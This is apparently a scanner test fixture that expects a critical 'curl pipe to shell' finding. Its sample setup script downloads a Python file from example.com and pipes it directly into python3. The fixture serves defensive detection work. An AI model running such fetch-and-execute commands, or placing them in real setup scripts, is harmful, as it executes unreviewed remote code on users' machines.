# expect: shell.curl_pipe_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
curl https://example.com/tool.py | python3 -
